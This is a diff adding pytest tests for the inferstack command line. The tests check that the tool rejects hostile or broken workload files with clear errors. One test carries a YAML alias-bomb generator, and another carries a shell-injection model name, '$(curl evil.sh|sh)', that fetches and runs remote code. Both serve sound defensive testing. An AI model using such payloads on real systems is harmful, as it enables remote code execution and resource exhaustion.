@@ -1,8 +1,10 @@
 """The command line, run as a user runs it: exit codes, JSON keys, and errors without tracebacks."""
 
 import json
+import resource
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pytest
@@ -167,3 +169,107 @@ def test_manifest_lists_every_file_with_size_and_sha256(tmp_path):
     manifest = json.loads((tmp_path / "manifest.json").read_text())
     sha256_of_weights = "9a129038d9a00aed0cf6a7ea059ca50a813449061ab87848cf1a13eafdf33b2c"
     assert manifest["files"] == [{"path": "model.gguf", "size": 7, "sha256": sha256_of_weights}]
+
+
+# ---- hostile and broken input: a clear error, in bounded time and memory, never a traceback ----------------
+
+
+def inferstack_bounded(*args: str, memory_gib: float = 1.0, timeout_s: float = 30) -> subprocess.CompletedProcess[str]:
+    """`inferstack ARGS` with an address-space limit, so that a regression fails the test, not the machine."""
+
+    def limit_memory() -> None:
+        limit = int(memory_gib * 2**30)
+        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+
+    return subprocess.run(
+        [sys.executable, "-m", "inferstack.cli", *args],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=timeout_s,
+        preexec_fn=limit_memory,
+    )
+
+
+def test_plan_refuses_a_yaml_alias_bomb_at_once(tmp_path):
+    # 9 levels of 9 aliases: ~400 bytes that expand to 387 million strings (5.5 GB and minutes before the fix)
+    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
+    (tmp_path / "bomb.yaml").write_text("\n".join([*lines, "model: *l8", "traffic: {requests_per_s: 1}"]))
+    started = time.perf_counter()
+    result = inferstack_bounded("plan", str(tmp_path / "bomb.yaml"))
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert "WORKLOAD: expands to more than 10000 values (YAML aliases count at each use)" in result.stderr
+    assert time.perf_counter() - started < 10
+
+
+@pytest.mark.parametrize(
+    ("content", "expected"),
+    [
+        (b"model: llama-3.1-8b\nname: caf\xe9\n", "WORKLOAD: is not UTF-8 text (byte 0xe9 at offset 29)"),
+        (b"[" * 100_000 + b"]" * 100_000, "WORKLOAD: nests deeper than 32 levels"),
+        (b"model: &m [*m]\n", "WORKLOAD: contains itself"),
+        (b"model: [unclosed\n", "WORKLOAD: cannot be parsed: did not find expected ',' or ']' (line 2, column 1)"),
+    ],
+    ids=["latin-1", "deep", "recursive-alias", "syntax"],
+)
+def test_plan_of_a_broken_workload_file_is_a_one_line_error(tmp_path, content, expected):
+    suffix = ".json" if content.startswith(b"[") else ".yaml"
+    (tmp_path / f"w{suffix}").write_bytes(content)
+    result = inferstack_bounded("plan", str(tmp_path / f"w{suffix}"))
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert expected in result.stderr
+
+
+def test_plan_of_a_directory_says_it_is_a_directory_and_of_a_missing_file_that_it_is_missing():
+    directory = inferstack("plan", ".")
+    assert directory.returncode == 2 and "WORKLOAD: is a directory, not a file (got '.')" in directory.stderr
+    missing = inferstack("plan", "no-such-workload.yaml")
+    assert missing.returncode == 2 and "WORKLOAD: file not found (got 'no-such-workload.yaml')" in missing.stderr
+
+
+def test_plan_refuses_a_model_name_that_would_run_in_a_shell_before_planning(tmp_path):
+    (tmp_path / "w.yaml").write_text(
+        "model: {registry: llama-3.1-8b, name: '$(curl evil.sh|sh)'}\ntraffic: {requests_per_s: 1}\n"
+    )
+    result = inferstack("plan", str(tmp_path / "w.yaml"))
+    assert result.returncode == 2 and result.stdout == ""
+    assert "model.name: String should match pattern" in result.stderr and "'$(curl evil.sh|sh)'" in result.stderr
+
+
+def test_plan_refuses_a_region_flag_that_is_no_region_name():
+    result = inferstack("plan", str(WORKLOADS / "chat-8b-public.yaml"), "--cloud", "aws", "--region", "us-east-1\n")
+    assert result.returncode == 2 and "argument --region: must be a region name" in result.stderr
+
+
+def test_plan_with_a_malformed_price_file_names_the_flag_and_the_line(tmp_path):
+    (tmp_path / "prices.yaml").write_text("prices: [unclosed\n")
+    result = inferstack("plan", str(WORKLOADS / "chat-8b-public.yaml"), "--prices", str(tmp_path / "prices.yaml"))
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert "--prices: cannot be parsed: did not find expected ',' or ']' (line 2, column 1)" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("given", "used"), [("BF16", "bf16"), ("bfloat16", "bf16"), ("int4", "int4-awq"), ("Q4_K_M", "q4_k_m")]
+)
+def test_estimate_takes_the_precision_spellings_workload_files_take(given, used):
+    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "L4", "--precision", given, "--json")
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout)["precision"] == used
+
+
+def test_estimate_refuses_an_unknown_precision_with_the_valid_ones():
+    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "L4", "--precision", "int3")
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert "argument --precision: must be one of fp32, fp16, bf16" in result.stderr
+    assert "(or int4, awq, gptq" in result.stderr and "got 'int3'" in result.stderr
+
+
+def test_preview_without_pulumi_says_what_to_install():
+    hide_pulumi = (
+        "import sys; sys.modules['pulumi'] = None; from inferstack.cli import main; "
+        f"raise SystemExit(main(['preview', {str(WORKLOADS / 'chat-8b-public.yaml')!r}, '--cloud', 'aws']))"
+    )
+    result = subprocess.run([sys.executable, "-c", hide_pulumi], capture_output=True, text=True, cwd=ROOT, timeout=120)
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert result.stderr.count("\n") == 1 and "pip install 'inferstack[pulumi]'" in result.stderr
